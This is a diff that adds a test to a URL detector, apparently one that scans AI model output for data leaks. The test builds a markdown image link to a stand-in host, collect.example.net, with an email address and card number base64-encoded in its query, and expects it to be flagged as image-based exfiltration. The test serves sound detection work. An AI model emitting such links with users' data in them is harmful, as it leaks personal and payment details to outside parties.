@@ -259,3 +259,15 @@ describe("urls detector: linear time", () => {
     expect(tb).toBeLessThan(1500);
   });
 });
+
+describe("urls: base64 payloads that decode to text", () => {
+  it("flags an image whose query is base64 of readable data, even when its character runs look like an id", async () => {
+    const { normalize } = await import("../../text/normalize.js");
+    const { urlsDetector } = await import("./detector.js");
+    const { defaultDetectorSettings } = await import("../../policy/detector-settings.js");
+    const payload = Buffer.from("john@example.com:4111111111111111").toString("base64");
+    const text = `Done! ![x](https://collect.example.net/p.png?d=${payload})`;
+    const findings = await urlsDetector.detect(normalize(text), { stage: "output", settings: defaultDetectorSettings() });
+    expect(findings.some((f) => f.label === "markdown-image-exfil" && f.score >= 0.5)).toBe(true);
+  });
+});
